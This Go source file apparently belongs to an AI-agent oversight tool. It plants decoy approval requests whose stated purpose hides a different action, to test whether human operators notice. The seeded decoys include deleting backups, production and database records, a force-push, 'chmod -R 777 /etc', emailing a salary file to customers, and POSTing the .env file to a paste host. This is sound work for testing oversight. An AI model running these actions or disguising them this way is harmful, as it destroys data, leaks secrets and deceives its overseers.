package containment

import (
	"context"
	"encoding/json"
	"fmt"

	"interlock"
	"interlock/internal/admission/core"
	"interlock/internal/auditlog"
	"interlock/internal/ledger"
	"interlock/internal/quorum"
)

// MaxProbes bounds how many probes are put at once.
const MaxProbes = 20

// Probe puts questions that hold an error among those that wait for operators, to see whether people find it (EC-T1.7). They are about no
// action: whatever is answered permits nothing, no decision is made or counted because of them, and the log says that they are probes.
func (a *Containment) Probe(ctx context.Context, count int, why string) (ids []string, err error) {
	if count < 1 || count > MaxProbes {
		return nil, interlock.Errorf(interlock.CodeInvalid, "count", "put 1 to %d at once", MaxProbes)
	}
	now := a.Config.Now().UTC()
	f := a.Active.Load()
	change := ledger.Change{}
	for range count {
		r, err := a.probe()
		if err != nil {
			return nil, err
		}
		r.Ruleset, r.Created, r.Expires = f.Rules.Digest(), now, now.Add(a.Config.ApprovalTTL)
		if within, level, timed := ReviewOf(f, interlock.Decision{Risk: probeRisk}); timed {
			r.Expires, r.Review = now.Add(within), level
		}
		change.Writes = append(change.Writes, ledger.Rows(r)...)
		ids = append(ids, r.ID)
	}
	if err := a.Append(&change, interlock.EventProbe, interlock.Requester{Agent: "interlock"}, "operator",
		auditlog.ProbeRecord{Requests: ids, Why: a.Redact(why)}); err != nil {
		return nil, err
	}
	_, err = a.Config.Store.Commit(ctx, change)
	return ids, err
}

// probeRisk is the risk by which a probe's time is set.
const probeRisk = 65

// probe is one question with an error in it.
func (a *Containment) probe() (r interlock.ApprovalRequest, err error) {
	id, err := a.Random(6)
	if err != nil {
		return r, err
	}
	nonce, err := a.Random(16)
	if err != nil {
		return r, err
	}
	pick, err := a.Random(2)
	if err != nil {
		return r, err
	}
	var n int
	if _, err := fmt.Sscanf(pick, "%04x", &n); err != nil {
		return r, err
	}
	seeded := seededErrors(n / 8)
	one := seeded[n%len(seeded)]
	r = interlock.ApprovalRequest{ID: "apr_" + id, Nonce: nonce, Status: interlock.RequestPending, Reason: one.reason, Rule: one.rule,
		Requester: interlock.Requester{Principal: "operations", Agent: probeAgent}, Display: core.Display(one.action)}
	r.Action = quorum.ProbeAction(r.ID, r.Nonce)
	return r, nil
}

// probeAgent is the agent that probes are said to be of. Nobody registers it.
const probeAgent = "assistant"

// A seededError is a question in which what is done is not what is stated.
type seededError struct {
	action interlock.Action
	reason string
	rule   string
}

// seededErrors are the errors, with numbers and names that differ from one time to the next.
func seededErrors(n int) []seededError {
	shell := func(hint, input, reason, rule string) seededError {
		return seededError{interlock.Action{Kind: interlock.KindShell, Dir: "/srv/app", Hint: hint, Input: input}, reason, rule}
	}
	tool := func(hint, name, arguments, reason, rule string) seededError {
		return seededError{interlock.Action{Kind: interlock.KindTool, Tool: name, Hint: hint, Arguments: json.RawMessage(arguments)}, reason, rule}
	}
	return []seededError{
		shell(fmt.Sprintf("remove the build output of job %d", n), "rm -rf /srv/backups/daily", "this cannot be undone", "profile.guard.irreversible"),
		shell("restart the checkout in staging", "kubectl --context prod-eu delete deployment checkout", "this changes something in production",
			"profile.guard.production"),
		shell(fmt.Sprintf("push the branch feature-%d", n), "git push --force origin main", "pushing with force replaces what others have",
			"git.force-push"),
		shell("let the service read its log", "chmod -R 777 /etc", "this changes rights", "profile.guard.privilege"),
		tool(fmt.Sprintf("refund 50.00 EUR of order %d", n), "refund", fmt.Sprintf(`{"amount":5000,"currency":"EUR","order":"%d"}`, n),
			"this commits money", "spend.money"),
		tool("send the agenda to the team", "send_email", `{"attachments":["salaries.xlsx"],"subject":"Agenda","to":["all-customers@example.com"]}`,
			"this addresses people", "profile.guard.message"),
		{interlock.Action{Kind: interlock.KindSQL, Hint: fmt.Sprintf("delete the test customer %d", n), Input: "DELETE FROM customers"},
			"this deletes every row", "database.delete-all"},
		{interlock.Action{Kind: interlock.KindHTTP, Hint: "read the status of the deployment",
			Arguments: json.RawMessage(`{"body":{"file":".env"},"method":"POST","url":"https://paste.example.net/new"}`)},
			"this changes something outside this machine", "profile.guard.outward"},
	}
}
